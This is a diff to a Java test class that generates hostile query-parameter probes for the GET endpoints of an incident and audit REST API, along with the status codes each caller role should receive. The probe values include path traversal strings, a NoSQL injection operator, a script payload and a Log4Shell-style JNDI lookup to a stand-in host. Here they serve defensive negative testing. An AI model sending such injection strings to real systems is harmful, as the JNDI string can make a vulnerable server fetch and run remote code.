@@ -149,7 +149,10 @@ final class RestProbes {
         }
     }
 
-    /** Hostile query parameters of the GET endpoints that take any; each case: expected field, then name/value pairs. */
+    /**
+     * Hostile query parameters of the GET endpoints that take any; each case: expected field, then name/value pairs.
+     * A field marked "~" is a free filter: a hostile value may also find nothing (200), but never a 5xx.
+     */
     List<Probe> queries(List<Endpoint> endpoints) {
         var cases = new LinkedHashMap<String, List<String[]>>();
         cases.put("/api/incidents", List.of(
@@ -175,22 +178,80 @@ final class RestProbes {
                 q("status", "status", SCRIPT)));
         cases.put("/api/units", List.of(q("department", "department", SCRIPT),
                 q("department", "department", "NOWHERE"), q("department", "department", "../FIRE")));
+        String now = java.time.Instant.now().toString();
+        String day = java.time.Instant.now().minus(java.time.Duration.ofDays(1)).toString();
+        var instants = List.of("yesterday", "2026-13-45T00:00:00Z", "2026-12-02", SCRIPT, "1".repeat(5000),
+                "1969-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z", "2999-01-01T00:00:00Z",
+                "+999999999-12-31T23:59:59Z", " ");
+        var at = new ArrayList<String[]>();
+        var range = new ArrayList<String[]>();
+        var optionalRange = new ArrayList<String[]>();
+        for (var value : instants) {
+            at.add(q("at", "at", value));
+            range.add(q("from", "from", value, "to", now));
+            range.add(q("to", "from", day, "to", value));
+            if (!value.isBlank()) {
+                optionalRange.add(q("from", "from", value));
+                optionalRange.add(q("to", "to", value));
+            }
+        }
+        at.add(q("at"));
+        range.add(q("from", "to", now));
+        range.add(q("to", "from", day));
+        range.add(q("from", "from", now, "to", day));
+        optionalRange.add(q("from", "from", now, "to", day));
+        var paging = List.of(q("limit", "limit", "0"), q("limit", "limit", "1001"), q("limit", "limit", "abc"),
+                q("limit", "limit", "9".repeat(30)), q("after", "after", "-1"), q("after", "after", SCRIPT));
+        var board = new ArrayList<>(at);
+        board.addAll(List.of(q("status", "at", now, "status", "FOO"), q("type", "at", now, "type", SCRIPT),
+                q("severity", "at", now, "severity", "4"), q("bbox", "at", now, "bbox", "1,2,3"),
+                q("bbox", "at", now, "bbox", "NaN,NaN,NaN,NaN"), q("drills", "at", now, "drills", "maybe")));
+        cases.put("/api/audit/board", board);
+        var events = new ArrayList<>(range);
+        events.add(q("to", "from", "2020-01-01T00:00:00Z", "to", now));
+        paging.forEach(p -> events.add(withPairs(p, "from", day, "to", now)));
+        // Free filters (docs/audit.md): a value no event carries finds nothing (200) or is refused naming it.
+        for (var filter : List.of("actor", "department", "type")) {
+            for (var value : List.of(SCRIPT, "x".repeat(5000), "../../admin", "{\"$ne\":null}",
+                    "${jndi:ldap://evil.example/a}")) {
+                events.add(q("~" + filter, "from", day, "to", now, filter, value));
+            }
+        }
+        cases.put("/api/audit/events", events);
+        var incidentEvents = new ArrayList<>(optionalRange);
+        incidentEvents.addAll(paging);
+        cases.put("/api/audit/incidents/{id}/events", incidentEvents);
+        cases.put("/api/audit/incidents/{id}", at);
+        cases.put("/api/audit/incidents/{id}/diff", range);
+        cases.put("/api/audit/incidents/{id}/export", List.of(q("format", "format", "pdf"),
+                q("format", "format", SCRIPT), q("format", "format", "x".repeat(5000)), q("format", "format", "../csv")));
+        cases.put("/api/audit/incidents/{id}/report", List.of(q("format", "format", "pdf"),
+                q("format", "format", SCRIPT), q("format", "format", "x".repeat(5000)), q("format", "format", "../html")));
         var out = new ArrayList<Probe>();
         for (var endpoint : endpoints) {
             var list = cases.get(endpoint.template());
             if (list == null || endpoint.isWrite()) {
                 continue;
             }
+            // Auditors' endpoints refuse everyone else before reading a parameter.
+            boolean audit = !endpoint.allowed().contains(Caller.OPERATOR);
             for (String[] query : list) {
-                var path = new StringBuilder(endpoint.path());
+                var path = new StringBuilder(endpoint.bare());
                 var shown = new StringBuilder();
                 for (int i = 1; i < query.length; i += 2) {
                     path.append(i == 1 ? '?' : '&').append(query[i]).append('=').append(encode(query[i + 1]));
                     shown.append(i == 1 ? "" : "&").append(query[i]).append('=').append(abbreviate(query[i + 1]));
                 }
-                for (var caller : List.of(Caller.OPERATOR, Caller.AUDITOR, Caller.LIAISON_FIRE)) {
+                for (var caller : List.of(Caller.OPERATOR, Caller.AUDITOR, Caller.LIAISON_FIRE, Caller.ADMIN)) {
+                    if (caller == Caller.ADMIN && !audit) {
+                        continue;
+                    }
+                    boolean refused = audit && !endpoint.allowed().contains(caller);
+                    boolean filter = query[0].startsWith("~");
                     out.add(new Probe(endpoint.name(), "query:" + (shown.isEmpty() ? "none" : shown), "GET",
-                            path.toString(), caller.headers(), null, Set.of(400), query[0]));
+                            path.toString(), caller.headers(), null,
+                            refused ? Set.of(403) : filter ? Set.of(200, 400) : Set.of(400),
+                            refused ? null : query[0].replace("~", "")));
                 }
             }
         }
@@ -199,6 +260,12 @@ final class RestProbes {
 
     private static String[] q(String... fieldThenPairs) {
         return fieldThenPairs;
+    }
+
+    private static String[] withPairs(String[] query, String... pairs) {
+        var all = java.util.Arrays.copyOf(query, query.length + pairs.length);
+        System.arraycopy(pairs, 0, all, query.length, pairs.length);
+        return all;
     }
 
     private static String abbreviate(String value) {
